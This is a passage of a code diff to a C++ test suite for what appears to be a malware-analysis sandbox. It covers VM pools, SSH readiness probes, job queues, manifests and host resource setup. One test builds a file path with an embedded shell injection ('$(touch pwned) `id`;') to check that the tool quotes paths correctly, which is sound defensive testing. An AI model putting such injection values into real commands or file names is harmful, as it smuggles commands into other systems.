@@ -1,13 +1,65 @@
 #include <gtest/gtest.h>
 #include "safebox.h"
+#include "artifacts.h"
+#include "collector.h"
+#include "container_backend.h"
+#include "event_loop.h"
+#include "events.h"
+#include "firecracker_backend.h"
+#include "governor.h"
+#include "hash_index.h"
+#include "journal.h"
+#include "manifest.h"
+#include "matcher.h"
+#include "mpmc_queue.h"
+#include "sha256.h"
+#include "pool.h"
+#include "triage.h"
+#include <algorithm>
+#include <csignal>
+#include <cstring>
+#include <filesystem>
+#include <fstream>
+#include <functional>
+#include <iterator>
+#include <map>
+#include <random>
+#include <set>
+#include <sstream>
+#include <thread>
+#include <tuple>
+#include <netinet/in.h>
+#include <poll.h>
+#include <sys/socket.h>
+#include <sys/un.h>
+#include <unistd.h>
 
 using namespace safebox;
 
+// A fresh directory under the system temp dir, removed with everything in it
+// when the test ends, whether or not its assertions held.
+class TempDir {
+public:
+    explicit TempDir(const std::string &name)
+        : path_(std::filesystem::temp_directory_path() / ("safebox-" + name + "-" + std::to_string(getpid()))) {
+        std::filesystem::remove_all(path_);
+        std::filesystem::create_directories(path_);
+    }
+    ~TempDir() {
+        std::error_code ec;
+        std::filesystem::remove_all(path_, ec);
+    }
+    const std::filesystem::path &path() const { return path_; }
+
+private:
+    std::filesystem::path path_;
+};
+
 // Mock execute_command for testing
 static bool mock_ssh_success = true;
-CommandResult mock_execute(const std::string& cmd) {
+CommandResult mock_execute(const Argv& argv) {
     CommandResult res{0, "", ""};
-    if (cmd.find("echo ok") != std::string::npos) {
+    if (format_command(argv).find("echo ok") != std::string::npos) {
         res.return_code = mock_ssh_success ? 0 : 1;
     }
     return res;
@@ -15,19 +67,137 @@ CommandResult mock_execute(const std::string& cmd) {
 
 TEST(SafeBoxTests, WaitForSSH_Success) {
     mock_ssh_success = true;
-    bool result = wait_for_ssh("user@127.0.0.1", 2222, 5, mock_execute);
+    bool result = wait_for_ssh(open_ssh_session("user@127.0.0.1", 2222), 5, mock_execute);
     EXPECT_TRUE(result);
 }
 
 TEST(SafeBoxTests, WaitForSSH_Timeout) {
     mock_ssh_success = false;
-    bool result = wait_for_ssh("user@127.0.0.1", 2222, 1, mock_execute);
+    bool result = wait_for_ssh(open_ssh_session("user@127.0.0.1", 2222), 1, mock_execute);
     EXPECT_FALSE(result);
 }
 
+TEST(SafeBoxTests, WaitForSSH_ProbeGatesSsh) {
+    mock_ssh_success = true;
+    int probes = 0;
+    ProbeFn probe = [&probes](const std::string&, int, int) { return ++probes >= 3; };
+    EXPECT_TRUE(wait_for_ssh(open_ssh_session("user@127.0.0.1", 2222), 5, mock_execute, probe));
+    EXPECT_EQ(probes, 3);
+}
+
+// Listens on an ephemeral loopback port and optionally greets like sshd.
+static int listen_loopback(int &port) {
+    int fd = socket(AF_INET, SOCK_STREAM, 0);
+    sockaddr_in addr{};
+    addr.sin_family = AF_INET;
+    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr));
+    listen(fd, 1);
+    socklen_t len = sizeof(addr);
+    getsockname(fd, reinterpret_cast<sockaddr*>(&addr), &len);
+    port = ntohs(addr.sin_port);
+    return fd;
+}
+
+TEST(SafeBoxTests, ProbeSshBanner) {
+    int port = 0;
+    int fd = listen_loopback(port);
+    std::thread server([fd] {
+        int c = accept(fd, nullptr, nullptr);
+        write(c, "SSH-2.0-test\r\n", 14);
+        close(c);
+    });
+    EXPECT_TRUE(probe_ssh_banner("127.0.0.1", port, 1000));
+    server.join();
+    close(fd);
+}
+
+TEST(SafeBoxTests, ProbeSshBanner_SilentPeer) {
+    int port = 0;
+    int fd = listen_loopback(port);
+    EXPECT_FALSE(probe_ssh_banner("127.0.0.1", port, 100));
+    close(fd);
+    EXPECT_FALSE(probe_ssh_banner("127.0.0.1", port, 100));
+}
+
+TEST(SafeBoxTests, WaitForAgentReady) {
+    std::string path = "/tmp/safebox-test-ready-" + std::to_string(getpid());
+    unlink(path.c_str());
+    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
+    sockaddr_un addr{};
+    addr.sun_family = AF_UNIX;
+    strncpy(addr.sun_path, path.c_str(), sizeof(addr.sun_path) - 1);
+    bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr));
+    listen(fd, 1);
+    std::thread guest([fd] {
+        int c = accept(fd, nullptr, nullptr);
+        write(c, "booting\nREADY\n", 14);
+        close(c);
+    });
+    EXPECT_TRUE(wait_for_agent_ready(path, 1000));
+    guest.join();
+    close(fd);
+    unlink(path.c_str());
+    EXPECT_FALSE(wait_for_agent_ready(path, 50));
+}
+
+TEST(SafeBoxTests, SshSession_CommandsShareControlPath) {
+    SshSession session = open_ssh_session("user@127.0.0.1", 2222);
+    std::string ssh = format_command(ssh_command(session, "echo ok"));
+    std::string scp = format_command(scp_to_guest(session, "a.bin", "/tmp/a.bin"));
+    std::string control = "ControlPath=" + session.control_path;
+    EXPECT_NE(ssh.find(control), std::string::npos);
+    EXPECT_NE(scp.find(control), std::string::npos);
+    EXPECT_NE(ssh.find("-p 2222"), std::string::npos);
+    EXPECT_NE(scp.find("-P 2222"), std::string::npos);
+    EXPECT_NE(scp.find("user@127.0.0.1:/tmp/a.bin"), std::string::npos);
+}
+
+TEST(SafeBoxTests, AgentCommand_QuotesPaths) {
+    std::string path = "/home/safebox/incoming/it's a $(touch pwned) `id`;.exe";
+    std::string cmd = agent_stream_command(path, "/home/safebox/out dir", 30);
+    // The guest's shell sees each path as one argument, verbatim.
+    CommandResult res = execute_command(
+        {"sh", "-c", "printf '%s\\n' " + cmd.substr(cmd.find("--file"))});
+    EXPECT_EQ(res.stdout, "--file\n" + path + "\n--output\n/home/safebox/out dir\n--timeout\n30\n");
+}
+
 TEST(SafeBoxTests, CommandExecution) {
-    CommandResult res = execute_command("echo test");
+    CommandResult res = execute_command({"echo", "test"});
     EXPECT_EQ(res.return_code, 0);
+    EXPECT_EQ(res.stdout, "test\n");
+}
+
+TEST(SafeBoxTests, CommandExecution_ExitCodeAndStderr) {
+    CommandResult res = execute_command({"sh", "-c", "echo oops >&2; exit 3"});
+    EXPECT_EQ(res.return_code, 3);
+    EXPECT_EQ(res.stderr, "oops\n");
+}
+
+TEST(SafeBoxTests, CommandExecution_NoShell) {
+    CommandResult res = execute_command({"echo", "$HOME", "*"});
+    EXPECT_EQ(res.stdout, "$HOME *\n");
+}
+
+TEST(SafeBoxTests, CommandExecution_Timeout) {
+    ExecOptions opts;
+    opts.timeout_seconds = 1;
+    CommandResult res = execute_command({"sleep", "10"}, opts);
+    EXPECT_TRUE(res.timed_out);
+    EXPECT_EQ(res.return_code, 124);
+}
+
+TEST(SafeBoxTests, CommandExecution_Environment) {
+    ExecOptions opts;
+    opts.clear_env = true;
+    opts.env = {"SAFEBOX_TEST=1"};
+    CommandResult res = execute_command({"env"}, opts);
+    EXPECT_EQ(res.stdout, "SAFEBOX_TEST=1\n");
+}
+
+TEST(SafeBoxTests, CommandExecution_MissingBinary) {
+    CommandResult res = execute_command({"safebox-no-such-binary"});
+    EXPECT_EQ(res.return_code, 127);
 }
 
 TEST(SafeBoxTests, RevertVM_VirtualBox) {
@@ -45,6 +215,1931 @@ TEST(SafeBoxTests, StartVM_InvalidBackend) {
     EXPECT_EQ(rc, 1);
 }
 
+TEST(SafeBoxTests, JobQueue_FifoOrder) {
+    JobQueue queue;
+    queue.push(Job{"a.bin", "./reports"});
+    queue.push(Job{"b.bin", "./reports"});
+    Job job;
+    ASSERT_TRUE(queue.pop(job));
+    EXPECT_EQ(job.file_path, "a.bin");
+    ASSERT_TRUE(queue.pop(job));
+    EXPECT_EQ(job.file_path, "b.bin");
+}
+
+TEST(SafeBoxTests, JobQueue_CloseDrainsThenStops) {
+    JobQueue queue;
+    queue.push(Job{"a.bin", "./reports"});
+    queue.close();
+    Job job;
+    EXPECT_TRUE(queue.pop(job));
+    EXPECT_FALSE(queue.pop(job));
+}
+
+TEST(SafeBoxTests, JobQueue_PopSkipsUnacceptedJobs) {
+    JobQueue queue;
+    Job kvm_job{"a.bin", "./reports"};
+    kvm_job.backend = "kvm";
+    queue.push(kvm_job);
+    queue.push(Job{"b.bin", "./reports"});
+    queue.close();
+
+    auto vbox_only = [](const Job &j) { return j.backend.empty() || j.backend == "virtualbox"; };
+    Job job;
+    ASSERT_TRUE(queue.pop(job, vbox_only));
+    EXPECT_EQ(job.file_path, "b.bin");
+    EXPECT_FALSE(queue.pop(job, vbox_only));
+    EXPECT_EQ(queue.size(), 1u);
+}
+
+TEST(SafeBoxTests, JobQueue_PriorityFairShareAndDeadlines) {
+    auto job = [](const std::string &file, Priority priority, const std::string &tenant, int deadline = 0) {
+        Job j{file, "./reports"};
+        j.priority = priority;
+        j.tenant = tenant;
+        j.deadline = deadline;
+        return j;
+    };
+    auto order = [](JobQueue &queue) {
+        std::vector<std::string> files;
+        Job j;
+        while (queue.try_pop(j)) files.push_back(j.file_path);
+        return files;
+    };
+
+    // Interactive first; within a class the bulk tenant's backlog does not
+    // hold back the other tenant; a near deadline beats both.
+    JobQueue queue;
+    for (int i = 0; i < 3; ++i) queue.push(job("bulk" + std::to_string(i), Priority::Batch, "scanner"));
+    queue.push(job("b0", Priority::Normal, "a"));
+    queue.push(job("b1", Priority::Normal, "a"));
+    queue.push(job("b2", Priority::Normal, "a"));
+    queue.push(job("c0", Priority::Normal, "b"));
+    queue.push(job("web", Priority::Interactive, "web"));
+    queue.push(job("due", Priority::Batch, "scanner", 10));
+    queue.push(job("later", Priority::Batch, "scanner", 3600));
+    EXPECT_EQ(order(queue), (std::vector<std::string>{"due", "web", "b0", "c0", "b1", "b2", "bulk0", "bulk1",
+                                                      "bulk2", "later"}));
+
+    // A tenant coming back after being idle does not get its idle time
+    // back as a burst.
+    for (int i = 0; i < 4; ++i) queue.push(job("a" + std::to_string(i), Priority::Normal, "a"));
+    Job j;
+    ASSERT_TRUE(queue.try_pop(j));
+    ASSERT_TRUE(queue.try_pop(j));
+    queue.push(job("n0", Priority::Normal, "new"));
+    queue.push(job("n1", Priority::Normal, "new"));
+    EXPECT_EQ(order(queue), (std::vector<std::string>{"n0", "a2", "n1", "a3"}));
+
+    // With aging every queued second lifts a job one class.
+    JobQueue aged(1);
+    aged.push(job("old", Priority::Batch, ""));
+    std::this_thread::sleep_for(std::chrono::milliseconds(2100));
+    aged.push(job("fresh", Priority::Interactive, ""));
+    ASSERT_TRUE(aged.try_pop(j));
+    EXPECT_EQ(j.file_path, "old");
+    EXPECT_GT(j.queue_wait, 2.0);
+    EXPECT_NE(global_metrics().exposition().find("safebox_queue_wait_seconds_count{priority=\"batch\"}"),
+              std::string::npos);
+}
+
+TEST(SafeBoxTests, MpmcQueue_ConcurrentProducersAndConsumers) {
+    MpmcQueue<int> ring(8);
+    EXPECT_EQ(ring.capacity(), 8u);
+    for (int i = 0; i < 8; ++i) ASSERT_TRUE(ring.try_push(i));
+    int v = 99;
+    EXPECT_FALSE(ring.try_push(v));
+    EXPECT_EQ(v, 99);
+    for (int i = 0; i < 8; ++i) {
+        ASSERT_TRUE(ring.try_pop(v));
+        EXPECT_EQ(v, i);
+    }
+    EXPECT_FALSE(ring.try_pop(v));
+
+    // Every value pushed by four producers is popped exactly once by four
+    // consumers through a ring much smaller than the traffic.
+    const int per_producer = 20000;
+    std::atomic<long long> sum{0};
+    std::atomic<int> popped{0};
+    std::vector<std::thread> threads;
+    for (int p = 0; p < 4; ++p) {
+        threads.emplace_back([&ring, p] {
+            for (int i = 1; i <= per_producer; ++i) {
+                int value = p * per_producer + i;
+                while (!ring.try_push(value)) std::this_thread::yield();
+            }
+        });
+    }
+    for (int c = 0; c < 4; ++c) {
+        threads.emplace_back([&] {
+            int value;
+            while (popped < 4 * per_producer) {
+                if (ring.try_pop(value)) {
+                    sum += value;
+                    ++popped;
+                } else {
+                    std::this_thread::yield();
+                }
+            }
+        });
+    }
+    for (auto &t : threads) t.join();
+    long long n = 4LL * per_producer;
+    EXPECT_EQ(popped.load(), n);
+    EXPECT_EQ(sum.load(), n * (n + 1) / 2);
+
+    // Past the ring's capacity JobQueue takes pushes directly, in order.
+    JobQueue queue;
+    for (int i = 0; i < 3000; ++i) queue.push(Job{std::to_string(i), "./reports"});
+    EXPECT_EQ(queue.size(), 3000u);
+    Job job;
+    for (int i = 0; i < 3000; ++i) {
+        ASSERT_TRUE(queue.try_pop(job));
+        ASSERT_EQ(job.file_path, std::to_string(i));
+    }
+}
+
+TEST(SafeBoxTests, Manifest_Load) {
+    std::string path = (std::filesystem::temp_directory_path() /
+                        ("safebox-manifest-" + std::to_string(getpid()) + ".jsonl")).string();
+    std::ofstream(path) << R"({"file": "/samples/a.exe", "timeout": 300, "backend": "kvm-hot", "tags": ["dropper", "x86"], "retries": 2})" "\n"
+                        << "# comment\n\n"
+                        << R"({"file": "/samples/b.exe", "id": "../b"})" "\n";
+    std::vector<Job> jobs;
+    std::string error;
+    ASSERT_TRUE(load_manifest(path, "/out", jobs, &error)) << error;
+    ASSERT_EQ(jobs.size(), 2u);
+    EXPECT_EQ(jobs[0].timeout, 300);
+    EXPECT_EQ(jobs[0].backend, "kvm-hot");
+    EXPECT_EQ(jobs[0].tags, (std::vector<std::string>{"dropper", "x86"}));
+    EXPECT_EQ(jobs[0].retries, 2);
+    EXPECT_EQ(jobs[0].report_dir, "/out/1-a.exe");
+    EXPECT_EQ(jobs[1].retries, -1);
+    EXPECT_EQ(jobs[1].report_dir, "/out/.._b");
+
+    std::ofstream(path) << R"({"file": "/samples/a.exe", "id": "x"})" "\n" << R"({"file": "/samples/b.exe", "id": "x"})" "\n";
+    jobs.clear();
+    EXPECT_FALSE(load_manifest(path, "/out", jobs, &error));
+    EXPECT_NE(error.find(":2:"), std::string::npos);
+    std::ofstream(path) << R"({"timeout": 5})" "\n";
+    EXPECT_FALSE(load_manifest(path, "/out", jobs, &error));
+    std::ofstream(path) << R"({"file": "/samples/c.exe", "priority": "interactive", "tenant": "web", "deadline": 60})" "\n";
+    jobs.clear();
+    ASSERT_TRUE(load_manifest(path, "/out", jobs, &error)) << error;
+    EXPECT_EQ(jobs[0].priority, Priority::Interactive);
+    EXPECT_EQ(jobs[0].tenant, "web");
+    EXPECT_EQ(jobs[0].deadline, 60);
+    std::ofstream(path) << R"({"file": "/samples/c.exe", "priority": "urgent"})" "\n";
+    EXPECT_FALSE(load_manifest(path, "/out", jobs, &error));
+    EXPECT_NE(error.find("unknown priority urgent"), std::string::npos);
+    std::filesystem::remove(path);
+}
+
+TEST(SafeBoxTests, EventLoop_TimersAndPost) {
+    EventLoop loop;
+    std::vector<int> order;
+    loop.add_timer(30, [&] { order.push_back(2); });
+    loop.add_timer(10, [&] { order.push_back(1); });
+    int cancelled = loop.add_timer(20, [&] { order.push_back(99); });
+    loop.cancel_timer(cancelled);
+    loop.add_timer(50, [&] { loop.stop(); });
+
+    std::thread poster([&] { loop.post([&] { order.push_back(0); }); });
+    loop.run();
+    poster.join();
+    EXPECT_EQ(order, (std::vector<int>{0, 1, 2}));
+}
+
+TEST(SafeBoxTests, EventLoop_SpawnsChildrenConcurrently) {
+    EventLoop loop;
+    int done = 0;
+    std::string streamed;
+    auto start = std::chrono::steady_clock::now();
+    for (int i = 0; i < 20; ++i) {
+        loop.spawn({"sh", "-c", "sleep 0.3; echo " + std::to_string(i)}, {}, [&, i](CommandResult res) {
+            EXPECT_EQ(res.return_code, 0);
+            EXPECT_EQ(res.stdout, std::to_string(i) + "\n");
+            if (++done == 22) loop.stop();
+        });
+    }
+    ExecOptions timeout;
+    timeout.timeout_seconds = 1;
+    loop.spawn({"sleep", "30"}, timeout, [&](CommandResult res) {
+        EXPECT_TRUE(res.timed_out);
+        EXPECT_EQ(res.return_code, 124);
+        if (++done == 22) loop.stop();
+    });
+    ExecOptions streaming;
+    streaming.on_stdout = [&](const char *data, size_t len) { streamed.append(data, len); };
+    loop.spawn({"sh", "-c", "echo a; exit 3"}, streaming, [&](CommandResult res) {
+        EXPECT_EQ(res.return_code, 3);
+        EXPECT_TRUE(res.stdout.empty());
+        if (++done == 22) loop.stop();
+    });
+    EXPECT_EQ(loop.spawn({"/nonexistent/binary"}, {}, [&](CommandResult res) { EXPECT_EQ(res.return_code, 127); }), -1);
+
+    loop.run();
+    EXPECT_EQ(done, 22);
+    EXPECT_EQ(streamed, "a\n");
+    // One thread ran 20 overlapping 300ms children.
+    EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(3));
+    EXPECT_EQ(loop.pending(), 1u);
+}
+
+// Runs a whole pool against stub virsh/ssh/scp on PATH and a banner-only
+// "sshd", so the state machine is exercised end to end without a VM.
+TEST(SafeBoxTests, VMPool_RunsJobsAcrossVms) {
+    namespace fs = std::filesystem;
+    TempDir root_dir("pool-test");
+    const fs::path &root = root_dir.path();
+    fs::create_directories(root / "bin");
+    auto stub = [&](const std::string &name, const std::string &body) {
+        std::ofstream(root / "bin" / name) << "#!/bin/sh\n" << body << "\n";
+        fs::permissions(root / "bin" / name, fs::perms::owner_all);
+    };
+    stub("virsh", "exit 0");
+    stub("scp", "exit 0");
+    stub("ssh", "case \"$*\" in *agent.py*) echo '{\"type\": \"start\", \"time\": \"t0\", \"path\": \"x\"}';"
+                " sleep 0.2; echo '{\"type\": \"end\", \"time\": \"t1\"}';; esac; exit 0");
+    std::ofstream(root / "sample.bin") << "MZ";
+
+    int port = 0;
+    int fd = listen_loopback(port);
+    std::atomic<bool> serving{true};
+    std::thread sshd([&] {
+        while (serving) {
+            pollfd p{fd, POLLIN, 0};
+            if (poll(&p, 1, 50) <= 0) continue;
+            int c = accept(fd, nullptr, nullptr);
+            write(c, "SSH-2.0-test\r\n", 14);
+            close(c);
+        }
+    });
+
+    std::string old_path = getenv("PATH");
+    setenv("PATH", ((root / "bin").string() + ":" + old_path).c_str(), 1);
+    {
+        std::vector<VMConfig> vms;
+        for (int i = 0; i < 3; ++i) vms.push_back(VMConfig{"kvm", "vm" + std::to_string(i), "", "safebox", port});
+        PoolOptions options;
+        options.threads = 2;
+        options.ssh_timeout = 10;
+        VMPool pool(vms, options);
+        pool.start();
+        for (int i = 0; i < 6; ++i) {
+            Job job{(root / "sample.bin").string(), (root / "reports" / std::to_string(i)).string()};
+            pool.submit(job);
+        }
+        pool.drain();
+        EXPECT_EQ(pool.completed(), 6);
+        EXPECT_EQ(pool.failed(), 0);
+    }
+    setenv("PATH", old_path.c_str(), 1);
+    serving = false;
+    sshd.join();
+    close(fd);
+
+    for (int i = 0; i < 6; ++i) {
+        std::ifstream in(root / "reports" / std::to_string(i) / "job.json");
+        std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
+        Json record;
+        ASSERT_TRUE(parse_json(text, record));
+        const Json *phases = record.find("phases");
+        ASSERT_NE(phases, nullptr);
+        EXPECT_GE(phases->number_or("agent", 0), 0.2);
+        EXPECT_NE(phases->find("boot"), nullptr);
+    }
+    EXPECT_NE(global_metrics().exposition().find("safebox_jobs_total{backend=\"kvm\",status=\"completed\"}"),
+              std::string::npos);
+}
+
+// Guest that is reachable at once and whose agent prints a complete report.
+struct InstantBackend : Backend {
+    static std::atomic<int> starts;
+    int start(const std::string &) override { return ++starts, 0; }
+    int revert(const std::string &) override { return 0; }
+    SshSession open_session(const std::string &target, int port) override { return SshSession{target, port, ""}; }
+    bool probe_guest(const SshSession &, int) override { return true; }
+    Argv guest_command(const SshSession &, const std::string &remote_cmd) override {
+        if (remote_cmd.find("agent.py") == std::string::npos) return {"true"};
+        return {"sh", "-c", "sleep 0.1; echo '{\"type\": \"start\", \"time\": \"t0\", \"path\": \"x\"}';"
+                            " echo '{\"type\": \"end\", \"time\": \"t1\"}'"};
+    }
+    int inject(const std::string &, const SshSession &, const std::string &, std::string &) override { return 0; }
+    void release(const std::string &) override {}
+};
+std::atomic<int> InstantBackend::starts{0};
+
+TEST(SafeBoxTests, VMPool_StandbyScaling) {
+    namespace fs = std::filesystem;
+    register_backend("instant", [] { return std::make_unique<InstantBackend>(); });
+    TempDir root_dir("standby-test");
+    const fs::path &root = root_dir.path();
+    std::ofstream(root / "sample.bin") << "MZ";
+
+    std::vector<VMConfig> vms;
+    for (int i = 0; i < 4; ++i) vms.push_back(VMConfig{"instant", "vm" + std::to_string(i), "", "safebox", 22});
+    PoolOptions options;
+    options.min_standby = 1;
+    options.max_standby = 4;
+    VMPool pool(vms, options);
+    pool.start();
+    std::this_thread::sleep_for(std::chrono::milliseconds(300));
+    // Idle pool: only the minimum standby is booted.
+    EXPECT_EQ(InstantBackend::starts.load(), 1);
+
+    for (int i = 0; i < 8; ++i) {
+        pool.submit(Job{(root / "sample.bin").string(), (root / "reports" / std::to_string(i)).string()});
+    }
+    pool.drain();
+    EXPECT_EQ(pool.completed(), 8);
+    // The backlog woke more than the standby VM.
+    EXPECT_GT(InstantBackend::starts.load(), 1);
+}
+
+// The first agent run drops like a lost ssh connection (255), the next one
+// exits 0 without its end record; only the third completes.
+struct FlakyAgentBackend : InstantBackend {
+    static std::atomic<int> runs;
+    Argv guest_command(const SshSession &session, const std::string &remote_cmd) override {
+        if (remote_cmd.find("agent.py") == std::string::npos) return InstantBackend::guest_command(session, remote_cmd);
+        int run = runs++;
+        if (run == 0) return {"sh", "-c", "echo '{\"type\": \"start\", \"time\": \"t0\", \"path\": \"x\"}'; exit 255"};
+        if (run == 1) return {"sh", "-c", "echo '{\"type\": \"start\", \"time\": \"t0\", \"path\": \"x\"}'"};
+        return InstantBackend::guest_command(session, remote_cmd);
+    }
+};
+std::atomic<int> FlakyAgentBackend::runs{0};
+
+TEST(SafeBoxTests, VMPool_RetriesFailedAgentRuns) {
+    namespace fs = std::filesystem;
+    register_backend("flaky", [] { return std::make_unique<FlakyAgentBackend>(); });
+    TempDir root_dir("flaky-test");
+    const fs::path &root = root_dir.path();
+    std::ofstream(root / "sample.bin") << "MZ";
+
+    auto run = [&](int retries, const std::string &dir) {
+        PoolOptions options;
+        options.retries = retries;
+        VMPool pool({VMConfig{"flaky", "vm0", "", "safebox", 22}}, options);
+        pool.start();
+        pool.submit(Job{(root / "sample.bin").string(), (root / dir).string()});
+        pool.drain();
+        std::ifstream in(root / dir / "job.json");
+        std::stringstream text;
+        text << in.rdbuf();
+        Json record;
+        EXPECT_TRUE(parse_json(text.str(), record));
+        return std::make_tuple(pool.completed(), pool.failed(), record);
+    };
+    auto [completed, failed, record] = run(2, "retried");
+    EXPECT_EQ(completed, 1);
+    EXPECT_EQ(failed, 0);
+    EXPECT_EQ(record.number_or("attempts", 0), 3);
+    EXPECT_EQ(record.string_or("status", ""), "completed");
+
+    // Without retries the dropped run is the job's outcome.
+    FlakyAgentBackend::runs = 0;
+    std::tie(completed, failed, record) = run(0, "dropped");
+    EXPECT_EQ(completed, 0);
+    EXPECT_EQ(failed, 1);
+    EXPECT_EQ(record.string_or("status", ""), "failed");
+    EXPECT_EQ(record.number_or("exit_code", 0), 255);
+}
+
+// Reads newline-terminated JSON objects from fd until pred accepts one.
+static bool read_events_until(int fd, std::string &buf, std::vector<Json> &seen,
+                              const std::function<bool(const Json &)> &pred) {
+    auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(5);
+    while (std::chrono::steady_clock::now() < deadline) {
+        size_t nl;
+        while ((nl = buf.find('\n')) != std::string::npos) {
+            Json event;
+            bool ok = parse_json(buf.substr(0, nl), event);
+            buf.erase(0, nl + 1);
+            if (!ok) return false;
+            seen.push_back(event);
+            if (pred(event)) return true;
+        }
+        pollfd p{fd, POLLIN, 0};
+        if (poll(&p, 1, 100) <= 0) continue;
+        char chunk[4096];
+        ssize_t n = read(fd, chunk, sizeof(chunk));
+        if (n <= 0) return false;
+        buf.append(chunk, static_cast<size_t>(n));
+    }
+    return false;
+}
+
+TEST(SafeBoxTests, EventPublisher_SnapshotThenChanges) {
+    namespace fs = std::filesystem;
+    TempDir root_dir("events-test");
+    const fs::path &root = root_dir.path();
+    std::string path = (root / "events.sock").string();
+    EventPublisher events;
+    ASSERT_EQ(events.start(path), 0);
+
+    Json state = Json::object();
+    state["stage"] = Json("ready");
+    events.publish("vm/a", state);
+    state["stage"] = Json("busy");
+    events.publish("vm/a", state);
+    events.publish("vm/b", state);
+    for (size_t i = 0; i < EventPublisher::kRetainedJobs + 2; ++i) {
+        Json job = Json::object();
+        job["status"] = Json("completed");
+        events.publish("job/" + std::to_string(i), job, true);
+    }
+    // Superseded states and the oldest finished jobs are gone.
+    std::vector<Json> snapshot = events.snapshot();
+    ASSERT_EQ(snapshot.size(), EventPublisher::kRetainedJobs + 2);
+    EXPECT_EQ(snapshot[0].string_or("key", ""), "vm/a");
+    EXPECT_EQ(snapshot[0].string_or("stage", ""), "busy");
+    EXPECT_EQ(snapshot[2].string_or("key", ""), "job/2");
+
+    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
+    sockaddr_un sa{};
+    sa.sun_family = AF_UNIX;
+    std::strcpy(sa.sun_path, path.c_str());
+    ASSERT_EQ(connect(fd, reinterpret_cast<sockaddr*>(&sa), sizeof(sa)), 0);
+    std::string buf;
+    std::vector<Json> seen;
+    ASSERT_TRUE(read_events_until(fd, buf, seen, [](const Json &e) { return e.string_or("type", "") == "synced"; }));
+    EXPECT_EQ(seen.size(), snapshot.size() + 1);
+    EXPECT_TRUE(seen[0].find("snapshot")->as_bool());
+    double synced = seen.back().number_or("seq", 0);
+
+    state["stage"] = Json("parked");
+    events.publish("vm/b", state);
+    seen.clear();
+    ASSERT_TRUE(read_events_until(fd, buf, seen, [](const Json &e) { return e.string_or("key", "") == "vm/b"; }));
+    EXPECT_EQ(seen.back().string_or("stage", ""), "parked");
+    EXPECT_EQ(seen.back().number_or("seq", 0), synced + 1);
+    EXPECT_EQ(seen.back().find("snapshot"), nullptr);
+    close(fd);
+
+    // The pool publishes VM stages and job transitions.
+    register_backend("instant", [] { return std::make_unique<InstantBackend>(); });
+    std::ofstream(root / "sample.bin") << "MZ";
+    PoolOptions options;
+    options.events = &events;
+    {
+        VMPool pool({VMConfig{"instant", "vm0", "", "safebox", 22}}, options);
+        pool.start();
+        Job job{(root / "sample.bin").string(), (root / "reports").string()};
+        job.id = "j1";
+        pool.submit(job);
+        pool.drain();
+    }
+    std::map<std::string, Json> latest;
+    for (const Json &e : events.snapshot()) latest[e.string_or("key", "")] = e;
+    EXPECT_EQ(latest["job/j1"].string_or("status", ""), "completed");
+    EXPECT_EQ(latest["job/j1"].string_or("vm", ""), "vm0");
+    EXPECT_EQ(latest["vm/vm0"].string_or("stage", ""), "retired");
+    events.stop();
+    EXPECT_FALSE(fs::exists(path));
+}
+
+TEST(SafeBoxTests, Governor_TopologyPlacementAndHostSetup) {
+    namespace fs = std::filesystem;
+    EXPECT_EQ(parse_cpu_list("0-3,8,10-11\n"), (std::vector<int>{0, 1, 2, 3, 8, 10, 11}));
+    EXPECT_EQ(parse_cpu_list("x,5-2,7"), (std::vector<int>{7}));
+    EXPECT_EQ(format_cpu_list({0, 1, 2, 5, 7, 8}), "0-2,5,7-8");
+
+    TempDir sys_dir("sysfs");
+    const fs::path &sys = sys_dir.path();
+    for (int n = 0; n < 3; ++n) {
+        fs::path node = sys / "devices/system/node" / ("node" + std::to_string(n));
+        fs::create_directories(node / "hugepages/hugepages-2048kB");
+        std::ofstream(node / "hugepages/hugepages-2048kB/nr_hugepages") << "0\n";
+        std::ofstream(node / "meminfo") << "Node " << n << " MemTotal:       2097152 kB\n";
+        // node2 is memory only.
+        std::ofstream(node / "cpulist") << (n == 0 ? "0-3\n" : n == 1 ? "4-7\n" : "\n");
+    }
+    fs::create_directories(sys / "kernel/mm/hugepages/hugepages-2048kB");
+    fs::create_directories(sys / "kernel/mm/ksm");
+    std::ofstream(sys / "kernel/mm/hugepages/hugepages-2048kB/nr_hugepages") << "0\n";
+    HostTopology topology;
+    ASSERT_TRUE(read_host_topology(topology, sys.string()));
+    ASSERT_EQ(topology.nodes.size(), 2u);
+    EXPECT_EQ(topology.cpu_count(), 8u);
+    EXPECT_EQ(topology.memory_mb(), 4096u);
+
+    // Core 0 stays with the host; VMs alternate to the node with the most
+    // free cores and share cores once there are none left.
+    GovernorOptions options;
+    options.pin = true;
+    options.hugepages = true;
+    options.ksm = true;
+    ResourceGovernor governor(options, topology, [] { return HostLoad{}; });
+    std::vector<VMConfig> vms;
+    for (int i = 0; i < 4; ++i) vms.push_back(VMConfig{"kvm", "vm" + std::to_string(i), "", "safebox", 22});
+    governor.place(vms);
+    EXPECT_EQ(vms[0].resources.cpus, (std::vector<int>{4, 5}));
+    EXPECT_EQ(vms[0].resources.numa_node, 1);
+    EXPECT_EQ(vms[1].resources.cpus, (std::vector<int>{1, 2}));
+    EXPECT_EQ(vms[1].resources.numa_node, 0);
+    EXPECT_EQ(vms[2].resources.cpus, (std::vector<int>{6, 7}));
+    EXPECT_EQ(vms[3].resources.cpus, (std::vector<int>{3, 1}));
+    EXPECT_TRUE(vms[3].resources.hugepages);
+
+    std::string error;
+    ASSERT_EQ(governor.prepare_host(vms, sys.string(), &error), 0) << error;
+    auto first_line = [](const fs::path &path) {
+        std::ifstream in(path);
+        std::string line;
+        std::getline(in, line);
+        return line;
+    };
+    EXPECT_EQ(first_line(sys / "devices/system/node/node0/hugepages/hugepages-2048kB/nr_hugepages"), "512");
+    EXPECT_EQ(first_line(sys / "devices/system/node/node1/hugepages/hugepages-2048kB/nr_hugepages"), "512");
+    EXPECT_EQ(first_line(sys / "kernel/mm/hugepages/hugepages-2048kB/nr_hugepages"), "1024");
+    EXPECT_EQ(first_line(sys / "kernel/mm/ksm/run"), "1");
+
+    fs::path proc = sys / "proc";
+    fs::create_directories(proc);
